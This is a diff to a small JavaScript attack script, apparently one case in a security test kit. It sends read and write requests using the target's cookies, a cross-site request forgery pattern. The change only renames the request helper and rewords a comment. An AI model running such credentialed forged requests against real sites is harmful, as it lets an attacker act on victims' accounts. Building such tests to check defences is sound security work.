@@ -1,10 +1,10 @@
-// The same with the cookies of the target.
-import { ask, attack, reads, writes } from './kit.js';
+// Fetches with the target's cookies.
+import { attack, reads, send, writes } from './kit.js';
 
 attack(async () => {
-  for (const path of reads) await ask(path, { credentials: 'include' });
+  for (const path of reads) await send(path, { credentials: 'include' });
   for (const [method, path, body] of writes) {
     const headers = { 'content-type': 'application/json' };
-    await ask(path, { method, headers, credentials: 'include', body: JSON.stringify(body) });
+    await send(path, { method, headers, credentials: 'include', body: JSON.stringify(body) });
   }
 });
